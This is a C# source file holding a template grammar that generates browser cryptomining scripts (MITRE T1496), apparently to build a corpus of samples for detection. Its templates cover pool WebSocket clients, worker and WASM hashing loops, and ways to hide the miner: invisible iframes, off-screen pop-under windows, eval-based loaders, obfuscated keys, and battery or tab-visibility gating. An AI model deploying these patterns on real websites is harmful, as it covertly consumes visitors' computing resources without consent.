namespace Weir.Scripts.Corpus.Rules;

/// <summary>Scripts that compute coins in the browser (MITRE ATT&amp;CK T1496), and what loads them.</summary>
internal static class MinerRules
{
    public const string Text = """"
        §miner
        6× «minerGlue»
        5× «minerWorker»
        4× «minerWasm»
        5× «minerService»
        4× «minerLoop»
        4× «minerBlob»
        3× «minerPage»
        4× «minerLoader»
        3× «minerHidden»
        2× «minerShared»

        ¶ ---- words ----
        §siteKey
        «!id‹32›»
        «!id‹«#20-40»›»
        «!hex‹40›»
        4«!id‹94›»
        4«!id‹94›».«#1-99999»
        «!word»_«!id‹12›»

        §pool
        wss://«!host»:«#80-9999»
        wss://«!host»/proxy
        wss://ws«#1-9»0«#1-9».«!host»/
        wss://«!host»/?algo=«algo»
        wss://«!host»/«!word»

        §algo
        cn/1
        cryptonight
        cn-lite
        cn-pico
        randomx
        rx/0
        cn/r
        cryptonight-lite
        yespower
        ghostrider

        §cores
        navigator.hardwareConcurrency||«2¦4»
        Math.max(1,(navigator.hardwareConcurrency||«2¦4»)-«1¦2»)
        navigator.hardwareConcurrency
        Math.ceil((navigator.hardwareConcurrency||4)*«0.5¦0.75¦0.8»)
        Math.min(«4¦8¦16»,navigator.hardwareConcurrency||2)
        window.navigator.hardwareConcurrency>4?«3¦4¦6»:«1¦2»

        §throttle
        0.«#1-9»
        0
        «#10-90»/100
        /Android|iPhone|Mobile/i.test(navigator.userAgent)?0.«#7-9»:0.«#1-5»

        §mobileGate
        4× ¹
        if(!/Android|webOS|iPhone|iPad|Mobile/i.test(navigator.userAgent)){¹}
        if(navigator.getBattery){navigator.getBattery().then(function(°b){if(°b.charging||°b.level>0.«#3-8»){¹}});}else{¹}
        if(document.cookie.indexOf('«!word»=')<0){¹}
        if(typeof WebAssembly==='object'&&typeof Worker!=='undefined'){¹}
        document.addEventListener('visibilitychange',function(){if(document.hidden){@stop();}else{@start();}});¹

        ¶ ---- a whole client ----
        §minerGlue
        «wrap‹«fillers»var @threads=[],@job=null,@hashes=0,@throttle=«throttle»,@ws=null;«minerSocket»«minerPool»«minerStats»«mobileGate‹«minerStart»›»›»
        class @M{constructor(°key,°o={}){this.key=°key;this.throttle=°o.throttle||«throttle»;this.threads=°o.threads||«cores»;this.totalHashes=0;this.workers=[];this.handlers={};}on(°e,°f){(this.handlers[°e]=this.handlers[°e]||[]).push(°f);}emit(°e,°d){(this.handlers[°e]||[]).forEach(°f=>°f(°d));}start(){this.socket=new WebSocket('«pool»');this.socket.onopen=()=>this.socket.send(JSON.stringify(«authMessage‹this.key›»));this.socket.onmessage=°m=>this.receive(JSON.parse(°m.data));for(let °i=0;°i<this.threads;°i++){const °w=new Worker('«scriptPath»');°w.onmessage=°m=>this.found(°m.data);this.workers.push(°w);}}receive(°m){switch(°m.type){case 'authed':this.emit('authed',°m.params);break;case 'job':this.job=°m.params;this.workers.forEach(°w=>°w.postMessage({job_id:this.job.job_id,blob:this.job.blob,target:this.job.target,throttle:this.throttle}));break;case 'hash_accepted':this.emit('accepted',°m.params);break;}}found(°r){this.totalHashes+=°r.hashes;if(°r.nonce){this.emit('found',°r);this.socket.send(JSON.stringify({type:'submit',params:{job_id:°r.job_id,nonce:°r.nonce,result:°r.result}}));}}stop(){this.workers.forEach(°w=>°w.terminate());this.socket.close();}getHashesPerSecond(){return this.workers.reduce((°a,°w)=>°a+(°w.hashesPerSecond||0),0);}}«const @m=new @M('«siteKey»',{throttle:«throttle»});@m.start();¦window.«!Word»=@M;»
        var @M=function(°k,°p){this.params=°p||{};this._siteKey=°k;this._user=null;this._threads=[];this._hashes=0;this._currentJob=null;this._autoReconnect=true;this._throttle=Math.max(0,Math.min(.99,this.params.throttle||«throttle»));this._targetNumThreads=this.params.threads||«cores»;};@M.prototype.start=function(){this._connect();this._setNumThreads(this._targetNumThreads);};@M.prototype.stop=function(){for(var °i=0;°i<this._threads.length;°i++){this._threads[°i].stop();}this._threads=[];if(this._socket){this._socket.close();this._socket=null;}};@M.prototype.isRunning=function(){return this._threads.length>0;};@M.prototype.getHashesPerSecond=function(){var °h=0;for(var °i=0;°i<this._threads.length;°i++){°h+=this._threads[°i].hashesPerSecond;}return °h;};@M.prototype._setNumThreads=function(°n){while(this._threads.length<°n){var °t=new @T();if(this._currentJob){°t.setJob(this._currentJob,this._onTargetMet.bind(this));}this._threads.push(°t);}};@M.prototype._connect=function(){this._socket=new WebSocket('«pool»');this._socket.onmessage=this._onMessage.bind(this);this._socket.onopen=this._onOpen.bind(this);};@M.prototype._onOpen=function(){this._send(«authType»,{site_key:this._siteKey,type:'«anonymous¦user¦token»',user:this._user,goal:0});};@M.prototype._onMessage=function(°e){var °m=JSON.parse(°e.data);if(°m.type==='job'){this._currentJob=°m.params;for(var °i=0;°i<this._threads.length;°i++){this._threads[°i].setJob(°m.params,this._onTargetMet.bind(this));}}};@M.prototype._onTargetMet=function(°r){if(°r.job_id===this._currentJob.job_id){this._send('submit',{job_id:°r.job_id,nonce:°r.nonce,result:°r.result});}};@M.prototype._send=function(°t,°p){this._socket.send(JSON.stringify({type:°t,params:°p}));};var @T=function(){this.worker=new Worker(«workerSource»);this.worker.onmessage=this.onReady.bind(this);this.hashesPerSecond=0;this.currentJob=null;};@T.prototype.setJob=function(°j,°cb){this.currentJob=°j;this.jobCallback=°cb;};@T.prototype.onReady=function(){this.worker.onmessage=this.onReceive.bind(this);this.worker.postMessage({job:this.currentJob,throttle:«throttle»});};@T.prototype.onReceive=function(°m){if(°m.data.result){this.jobCallback(°m.data);}this.hashesPerSecond=this.hashesPerSecond*.5+°m.data.hashesPerSecond*.5;};@T.prototype.stop=function(){this.worker.terminate();};«new @M('«siteKey»').start();¦window.«!Word»={Anonymous:function(°k,°p){return new @M(°k,°p);}};»

        §authType
        'auth'
        'login'

        §authMessage
        {type:'auth',params:{site_key:¹,type:'anonymous',user:null,goal:0}}
        {identifier:'handshake',pool:'«!host»:«#3000-9999»',login:¹,password:'x',userid:'',version:«#4-9»}
        {method:'login',params:{login:¹,pass:'x',agent:'«!word»/«#1-9».«#0-9»'},id:1}
        {id:1,jsonrpc:'2.0',method:'login',params:{login:¹,pass:'«!word»',algo:['«algo»']}}
        {cmd:'auth',key:¹,throttle:«throttle»}

        §minerSocket
        function @connect(){@ws=new WebSocket('«pool»');@ws.onopen=function(){@ws.send(JSON.stringify(«authMessage‹'«siteKey»'›»));};@ws.onmessage=function(°e){var °m=JSON.parse(°e.data);if(°m.«type==='job'¦identifier==='job'¦method==='job'»){@job=°m.params||°m;@spread();}«if(°m.error){@ws.close();}¦»};@ws.onclose=function(){setTimeout(@connect,«#1-30»000);};}
        function @connect(){var °s='«pool»';@ws=new WebSocket(°s);@ws.addEventListener('open',function(){@ws.send(JSON.stringify(«authMessage‹'«siteKey»'›»));});@ws.addEventListener('message',function(°e){@job=JSON.parse(°e.data);@spread();});«setInterval(function(){if(@ws.readyState===3){@connect();}},«#5-60»000);¦»}

        §minerPool
        function @spread(){@threads.forEach(function(°w){°w.postMessage(@job);});}function @grow(°n){while(@threads.length<°n){var °w=new Worker(«workerSource»);°w.onmessage=function(°e){var °d=°e.data;@hashes+=°d.hashes||1;if(°d.nonce&&°d.result){@ws.send(JSON.stringify({«type:'submit'¦identifier:'solved'¦method:'submit'»,params:{job_id:°d.job_id,nonce:°d.nonce,result:°d.result}}));}};@threads.push(°w);}}
        function @spread(){for(var °i=0;°i<@threads.length;°i++){@threads[°i].postMessage({job:@job,throttle:@throttle,offset:°i});}}function @grow(°n){for(var °i=0;°i<°n;°i++){(function(°k){var °w=new Worker(«workerSource»);°w.onmessage=function(°e){if(°e.data==='ready'){°w.postMessage({job:@job,throttle:@throttle,offset:°k});}else if(°e.data.result){@ws.send(JSON.stringify(°e.data));}};@threads.push(°w);})(°i);}}

        §workerSource
        '«scriptPath»'
        «minerBlobUrl»
        '/«!word».js?t='+Date.now()

        §minerBlobUrl
        URL.createObjectURL(new Blob(['«workerText»'],{type:'«text¦application»/javascript'}))
        (window.URL||window.webkitURL).createObjectURL(new Blob(['importScripts("«url»");«workerText»']))

        §workerText
        onmessage=function(e){var j=e.data,n=0;for(;;){n++;var h=hash(j.blob,n);if(h<j.target){postMessage({job_id:j.job_id,nonce:n,result:h});}}};
        self.onmessage=function(e){var t=Date.now(),c=0;while(Date.now()-t<«#100-2000»){work(e.data.job);c++;}self.postMessage({hashes:c,hashesPerSecond:c/2});};
        importScripts("«url»");onmessage=function(m){CryptonightWASM.set(m.data);};
        var M={wasmBinary:new Uint8Array([0,97,115,109,1,0,0,0])};onmessage=function(m){postMessage({result:M.h(m.data.blob),nonce:m.data.nonce});};

        §minerStats
        function @rate(){var °h=@hashes;@hashes=0;return °h/«#1-10»;}«setInterval(function(){«console.log('Hashes per second: '+@rate());¦if(@rate()<«#1-9»){@throttle=Math.max(0,@throttle-0.1);}¦document.getElementById('hps').textContent=@rate().toFixed(1)+' H/s';»},«#1-10»000);¦»
        var @since=Date.now();function @rate(){return @hashes/((Date.now()-@since)/1000);}
        function @rate(){return @hashes;}

        §minerStart
        @grow(«cores»);@connect();
        function @start(){@grow(«cores»);@connect();}function @stop(){@threads.forEach(function(°w){°w.terminate();});@threads=[];}«start‹@start›»
        setTimeout(function(){@grow(«cores»);@connect();},«#1-30»000);

        ¶ ---- the worker ----
        §minerWorker
        var @job=null,@nonce=0,@run=false,@throttle=«throttle»;self.onmessage=function(°e){var °d=°e.data;@job=°d.job||°d;@throttle=°d.throttle||@throttle;if(!@run){@run=true;@work();}};«hexFns»function @work(){var °t=Date.now(),°n=0,°h;do{@nonce=(Math.random()*4294967295+1)>>>0;°h=@hash(@job.blob,@nonce);°n++;if(@meets(°h,@job.target)){self.postMessage({job_id:@job.job_id,nonce:@toHex(@nonce),result:°h,hashes:°n});°n=0;}}while(Date.now()-°t<«#100-2000»);self.postMessage({hashesPerSecond:°n*1000/(Date.now()-°t),hashes:°n});setTimeout(@work,(Date.now()-°t)*@throttle/(1-@throttle));}function @meets(°h,°t){for(var °i=«#3-7»;°i>=0;°i--){var °a=parseInt(°h.substr(56+°i,2),16),°b=parseInt(°t.substr(°i*2,2),16);if(°a<°b){return true;}if(°a>°b){return false;}}return false;}«slowHash»
        «fillers»«hexFns»var @mod=null,@in=null,@out=null;function @setJob(°j){@blob=@fromHex(°j.blob);@target=@fromHex(°j.target);@id=°j.job_id;}var @blob,@target,@id,@n=0;onmessage=function(°m){switch(°m.data.«type¦cmd¦action»){case 'job':@setJob(°m.data);@loop();break;case 'stop':close();break;}};importScripts('«scriptPath»');function @loop(){@n++;@blob[39]=@n&255;@blob[40]=@n>>8&255;@blob[41]=@n>>16&255;@blob[42]=@n>>24&255;@in.set(@blob);@mod._«hash_cn¦cryptonight_hash¦hash»(@in.byteOffset,@out.byteOffset,@blob.length);var °h=@toHex(@out);if(@out[31]<@target[3]){postMessage({type:'«found¦share»',job_id:@id,nonce:@n,result:°h});}setTimeout(@loop,«#0-10»);}
        «hexFns»self.addEventListener('message',async °e=>{const {blob:°b,target:°t,job_id:°j,height:°g}=°e.data;let °n=«rand»;while(true){const °h=await @hash(°b,°n);if(@less(°h,°t)){self.postMessage({cmd:'submit',job:°j,nonce:°n,hash:°h«,height:°g¦»});}°n++;if(°n%«#10-500»===0){await new Promise(°r=>setTimeout(°r,«#1-100»));}}});function @less(°a,°b){return parseInt(°a.slice(-8),16)<parseInt(°b,16);}«slowHash»

        §hexFns
        function @toHex(°b){for(var °s='',°i=0;°i<°b.length;°i++){°s+=(°b[°i]>>>4).toString(16)+(°b[°i]&15).toString(16);}return °s;}function @fromHex(°s){var °b=new Uint8Array(°s.length/2);for(var °i=0,°j=0;°i<°s.length;°i+=2,°j++){°b[°j]=parseInt(°s.substr(°i,2),16);}return °b;}
        function @toHex(°b){return Array.prototype.map.call(new Uint8Array(°b.buffer||[°b]),function(°x){return ('0'+°x.toString(16)).slice(-2);}).join('');}function @fromHex(°s){return new Uint8Array(°s.match(/../g).map(function(°x){return parseInt(°x,16);}));}

        §slowHash
        var @pad=new Uint32Array(«524288¦262144¦131072»);function @hash(°b,°n){var °a=°n|0,°c=«#1-99999»;for(var °i=0;°i<@pad.length;°i++){@pad[°i]=Math.imul(@pad[°i]^°a,«#1000-99999»)+°i;}for(var °j=0;°j<«#1000-524288»;°j++){var °k=(°a>>>«#3-6»)&(@pad.length-1);@pad[°k]^=°c;°c=Math.imul(°c,@pad[°k]|1);°a=(°a+°c)|0;}return ('00000000'+(°a>>>0).toString(16)).slice(-8)+@toHex(@pad.subarray(0,7));}
        function @aes(°s,°k){for(var °r=0;°r<10;°r++){for(var °i=0;°i<4;°i++){°s[°i]=(@t0[°s[°i]>>>24]^@t0[°s[(°i+1)%4]>>>16&255]^@t0[°s[(°i+2)%4]>>>8&255]^°k[°r*4+°i])>>>0;}}return °s;}var @t0=new Uint32Array(256);function @hash(°b,°n){var °pad=[],°s=[°n,1,2,3],°k=[];for(var °i=0;°i<40;°i++){°k[°i]=°b.charCodeAt?°b.charCodeAt(°i%°b.length):°b[°i];}for(°i=0;°i<«16384¦65536¦131072»;°i++){°pad.push(@aes(°s,°k)[0]);}for(°i=0;°i<«#10000-262144»;°i++){var °j=°s[0]&(°pad.length-1);°pad[°j]^=°s[1];°s=@aes(°s,°k);}return °s.map(function(°x){return °x.toString(16);}).join('');}
        async function @hash(°b,°n){const °d=new TextEncoder().encode(°b+°n);let °h=await crypto.subtle.digest('SHA-256',°d);°h=await crypto.subtle.digest('SHA-256',°h);return @toHex(new Uint8Array(°h));}

        §minerWasm
        «wrap‹«hexFns»var @w=null,@memory=new WebAssembly.Memory({initial:«#128-512»,maximum:«#512-2048»«,shared:true¦»});fetch('«url»').then(function(°r){return °r.arrayBuffer();}).then(function(°b){return WebAssembly.instantiate(°b,{env:{memory:@memory,table:new WebAssembly.Table({initial:8,element:'anyfunc'}),abort:function(){}}});}).then(function(°m){@w=°m.instance.exports;self.postMessage('«ready¦init¦wasmReady»');});self.onmessage=function(°e){var °j=°e.data,°in=@w.«malloc¦_malloc»(«#76-84»),°h=new Uint8Array(@memory.buffer),°out=@w.«malloc¦_malloc»(32);°h.set(@fromHex(°j.blob),°in);for(var °n=°j.start;°n<°j.end;°n++){new DataView(@memory.buffer).setUint32(°in+39,°n,true);@w.«hash¦_hash_cn¦slow_hash»(°in,°out,76«,°j.variant¦»);if(new DataView(@memory.buffer).getUint32(°out+28,true)<°j.target){self.postMessage({job_id:°j.job_id,nonce:°n,result:@toHex(°h.subarray(°out,°out+32))});}}};›»
        var Module={locateFile:function(°p){return '«url»';},onRuntimeInitialized:function(){@ready();}};«hexFns»var @job,@timer;function @ready(){@in=new Uint8Array(Module.HEAPU8.buffer,Module._malloc(84),84);@out=new Uint8Array(Module.HEAPU8.buffer,Module._malloc(32),32);postMessage({type:'ready'});}var @in,@out;onmessage=function(°m){@job=°m.data;clearTimeout(@timer);@step();};function @step(){var °t=performance.now(),°c=0;while(performance.now()-°t<«#100-1000»){@in.set(@fromHex(@job.blob));@in[39]=Math.random()*256;Module._cryptonight_hash(@in.byteOffset,@out.byteOffset,@in.byteLength);°c++;if(@out[31]<@job.difficulty){postMessage({type:'hash',nonce:@in[39],result:@toHex(@out)});}}postMessage({type:'rate',hps:°c});@timer=setTimeout(@step,«#1-200»);}importScripts('«scriptPath»');
        var @code=new Uint8Array([0,97,115,109,1,0,0,0,«byte*30-200»11]);«wrap‹WebAssembly.compile(@code).then(function(°m){var °n=«cores»;for(var °i=0;°i<°n;°i++){var °w=new Worker(«minerBlobUrl»);°w.postMessage({module:°m,thread:°i,key:'«siteKey»'});}});›»

        §byte
        «#0-255»,

        ¶ ---- the interface of a service ----
        §minerService
        var @m=new «serviceName».«Anonymous¦User¦Token»('«siteKey»'«,{throttle:«throttle»}¦,{threads:«#1-8»,throttle:«throttle»,forceASMJS:false}¦»);«serviceUse»
        «wrap‹var @m=«serviceName»('«siteKey»',{throttle:«throttle»,«autoThreads:true,¦threads:«cores»,¦»language:'auto'});«serviceUse»›»
        var @s=document.createElement('script');@s.src='«url»';@s.onload=function(){«mobileGate‹var @m=new «serviceName».Anonymous('«siteKey»',{throttle:«throttle»});«serviceUse»›»};document.head.appendChild(@s);function @start(){}function @stop(){}
        «wrap‹EverythingIsLife('«siteKey»','«!word»',«#10-90»);›»
        var @client=new Client.«Anonymous¦User»('«siteKey»',{throttle:«throttle»,c:'w'«,ads:0¦»});@client.start();«@client.addMiningNotification('«Bottom¦Top»','«!word»','#«!hex‹6›»',«#20-60»,'#«!hex‹6›»');¦»
        startMining('«!host»','«siteKey»','«!word»',«cores»);«throttleMiner=«#5-80»;¦»

        §serviceName
        «!Word»Hive
        «!Word»Miner
        «!Word»Coin
        Coin«!Word»
        «!Word»Loot
        «!Word»Imp
        «!Word»

        §serviceUse
        @m.start();
        if(!@m.isMobile()&&!@m.didOptOut(«#3600-99999»)){@m.start();}
        @m.start(«serviceName».«FORCE_EXCLUSIVE_TAB¦FORCE_MULTI_TAB¦IF_EXCLUSIVE_TAB»);
        @m.on('found',function(){«@found++¦console.log('found')¦void 0»;});@m.on('accepted',function(){document.cookie='«!word»='+@m.getTotalHashes();});@m.start();var @found=0;
        @m.start();setInterval(function(){var °h=@m.getHashesPerSecond(),°t=@m.getTotalHashes(),°a=@m.getAcceptedHashes();document.getElementById('«!word»').innerHTML=°h.toFixed(1)+' / '+°t;},1000);
        @m.on('optin',function(°p){if(°p.status==='accepted'){@m.start();}});@m.on('error',function(°p){if(°p.error==='invalid_site_key'){@m.stop();}});@m.start();

        §minerLoop
        «wrap‹var @diff=«#2-7»,@found=[];function @hash(°s){var °h=0x«!hex‹8›»;for(var °i=0;°i<°s.length;°i++){°h=Math.imul(°h^°s.charCodeAt(°i),«#1000-99999»);}return (°h>>>0).toString(16);}function @mine(°d){var °n=0,°h='';do{°n++;°h=@hash(°d+°n);}while(°h.substr(0,@diff)!==Array(@diff+1).join('0'));return {nonce:°n,hash:°h};}function @go(){fetch('«url»').then(function(°r){return °r.json();}).then(function(°j){var °r=@mine(°j.block);fetch('«url»',{method:'POST',body:JSON.stringify({miner:'«siteKey»',nonce:°r.nonce,hash:°r.hash,job:°j.id})}).then(@go);});}«mobileGate‹@go();›»function @start(){@go();}function @stop(){}›»
        «wrap‹«hexFns»«slowHash»var @state={nonce:0,hashes:0,accepted:0,difficulty:«#1-9999»};function @tick(){var °e=performance.now()+«#10-500»;while(performance.now()<°e){var °h=@hash(@state.header||'«!hex‹64›»',@state.nonce++);@state.hashes++;if(parseInt(String(°h).slice(0,6),16)<@state.target){@share(@state.nonce);}}«requestIdleCallback(@tick)¦setTimeout(@tick,«#10-500»)¦requestAnimationFrame(@tick)»;}function @share(°n){«post‹'«url»'›‹JSON.stringify({method:'mining.submit',params:['«siteKey»',@state.job,°n]})›»}$.getJSON('«url»',function(°w){@state.header=°w.data;@state.target=°w.target;@state.job=°w.id;@tick();});›»
        «wrap‹var @ws=new WebSocket('«pool»'),@sub=0;@ws.onopen=function(){@ws.send(JSON.stringify({id:++@sub,method:'mining.subscribe',params:['«!word»/«#1-9».0']}));@ws.send(JSON.stringify({id:++@sub,method:'mining.authorize',params:['«siteKey»','x']}));};@ws.onmessage=function(°e){var °m=JSON.parse(°e.data);if(°m.method==='mining.notify'){@w.postMessage({job:°m.params[0],prev:°m.params[1],coinb1:°m.params[2],ntime:°m.params[7],clean:°m.params[8]});}if(°m.method==='mining.set_difficulty'){@w.postMessage({difficulty:°m.params[0]});}};var @w=new Worker(«workerSource»);@w.onmessage=function(°e){@ws.send(JSON.stringify({id:++@sub,method:'mining.submit',params:['«siteKey»',°e.data.job,°e.data.extranonce,°e.data.ntime,°e.data.nonce]}));};›»

        §minerBlob
        «wrap‹var @text=[«workerLines»].join('\n'),@u=URL.createObjectURL(new Blob([@text],{type:'text/javascript'})),@list=[];«mobileGate‹for(var °i=0;°i<(«cores»);°i++){var °w=new Worker(@u);°w.onmessage=@got;°w.postMessage({key:'«siteKey»',pool:'«pool»',throttle:«throttle»});@list.push(°w);}›»function @got(°e){if(°e.data&&°e.data.hashes){window.«!word»=(window.«!word»||0)+°e.data.hashes;}}function @start(){}function @stop(){@list.forEach(function(°w){°w.terminate();});}›»
        «wrap‹function @body(){«hexFns»«slowHash»var @s=null;self.onmessage=function(°e){@s=new WebSocket(°e.data.pool);@s.onmessage=function(°m){var °j=JSON.parse(°m.data),°n=0;while(°n++<«#100-9999»){var °h=@hash(°j.blob,°n);if(°h<°j.target){@s.send(JSON.stringify({job_id:°j.job_id,nonce:°n,result:°h}));}}};};}var @u=URL.createObjectURL(new Blob(['('+@body.toString()+')()']));new Worker(@u).postMessage({pool:'«pool»'});›»

        §workerLines
        'importScripts("«url»");','var w=new WebSocket("«pool»"),j,n=0;','w.onmessage=function(e){j=JSON.parse(e.data);run();};','function run(){for(var i=0;i<«#10-900»;i++){n++;var h=hash(j.blob,n);if(h<j.target){w.send(JSON.stringify({nonce:n,result:h,job_id:j.job_id}));}}postMessage({hashes:n});setTimeout(run,«#1-99»);}'
        'onmessage=function(e){','var k=e.data.key,t=e.data.throttle;','setInterval(function(){work(k);postMessage({hashes:«#1-99»});},1000*t);','};','function work(k){for(var i=0,x=1;i<1e«#5-7»;i++){x=Math.imul(x,«#1000-99999»)^i;}return x;}'

        §minerPage
        $(function(){var @m=new «serviceName».User('«siteKey»',$('#user').val());$('#start').click(function(){if(@m.isRunning()){@m.stop();$(this).text('Start');}else{@m.start();$(this).text('Stop');}});$('#throttle').on('change',function(){@m.setThrottle($(this).val()/100);});$('#threads').on('change',function(){@m.setNumThreads(parseInt($(this).val(),10));});setInterval(function(){$('#hps').text(@m.getHashesPerSecond().toFixed(2));$('#total').text(@m.getTotalHashes());},1000);});
        «wrap‹«minerSocket»var @ws,@job,@threads=[],@hashes=0,@throttle=«throttle»;«minerPool»«minerStats»var @chart=[];setInterval(function(){@chart.push(@rate());if(@chart.length>60){@chart.shift();}document.getElementById('rate').textContent=@rate().toFixed(1)+' h/s';},1000);document.getElementById('«start¦consent¦agree»').onclick=function(){@grow(+document.getElementById('threads').value);@connect();};›»

        §minerLoader
        «wrap‹«mobileGate‹var °s=document.createElement('script');°s.src=«target»;°s.setAttribute('data-«key¦wallet¦site»','«siteKey»');°s.setAttribute('data-throttle','0.«#1-9»');«root».appendChild(°s);›»function @start(){}function @stop(){}›»
        document.write('<script src="«url»"></'+'script><script>var m=new «serviceName».Anonymous("«siteKey»",{throttle:0.«#1-9»});m.start();</'+'script>');
        «wrap‹var °x=new XMLHttpRequest();°x.open('GET',«target»,true);°x.onload=function(){eval(°x.responseText);new «serviceName».Anonymous('«siteKey»',{throttle:«throttle»}).start();};°x.send();›»
        import('«url»').then(°m=>{const @k=new °m.Miner({wallet:'«siteKey»',threads:«cores»,throttle:«throttle»});@k.start();});
        «wrap‹var °f=document.createElement('iframe');°f.src='«url»?key=«siteKey»&throttle=«#10-90»';°f.style.cssText='width:0;height:0;border:0;visibility:hidden';°f.«allow='cross-origin-isolated'¦sandbox='allow-scripts allow-same-origin'»;document.body.appendChild(°f);›»

        §minerHidden
        «wrap‹var @k=«hiddenText‹«siteKey»›»,@u=«hiddenText‹«pool»›»,@n=«cores»;var @ws=new WebSocket(@u);@ws.onopen=function(){@ws.send(JSON.stringify({key:@k,threads:@n}));};var @p=[];for(var °i=0;°i<@n;°i++){@p.push(new Worker(«minerBlobUrl»));}@ws.onmessage=function(°e){@p.forEach(function(°w){°w.postMessage(JSON.parse(°e.data));});};@p.forEach(function(°w){°w.onmessage=function(°r){@ws.send(JSON.stringify(°r.data));};});›»
        «wrap‹var @w=window.open('«url»','«!word»','width=«#50-150»,height=«#30-100»,left='+(screen.width-«#100-200»)+',top='+screen.height);window.focus();«minerStart2»›»

        §minerStart2
        setInterval(function(){if(!@w||@w.closed){«minerNew»}},«#5-60»000);
        «minerNew»

        §minerNew
        new «serviceName».Anonymous('«siteKey»',{throttle:«throttle»}).start();

        §minerShared
        const @ports=[];let @job=null;self.onconnect=°e=>{const °p=°e.ports[0];@ports.push(°p);°p.onmessage=°m=>{if(°m.data.nonce){@ws.send(JSON.stringify({type:'submit',params:°m.data}));}};if(@job){°p.postMessage(@job);}};const @ws=new WebSocket('«pool»');@ws.onopen=()=>@ws.send(JSON.stringify(«authMessage‹'«siteKey»'›»));@ws.onmessage=°e=>{@job=JSON.parse(°e.data);@ports.forEach((°p,°i)=>°p.postMessage({...@job,start:°i*1e6}));};
        «wrap‹var @ch=new BroadcastChannel('«!word»'),@leader=false,@key='«!word»_tab';function @claim(){var °t=+localStorage.getItem(@key)||0;if(Date.now()-°t>«#1500-5000»){localStorage.setItem(@key,Date.now());if(!@leader){@leader=true;«minerNew»}}else if(@leader){localStorage.setItem(@key,Date.now());}}setInterval(@claim,«#500-1500»);@ch.onmessage=function(°e){if(°e.data==='stop'){@leader=false;}};›»
        """";
}
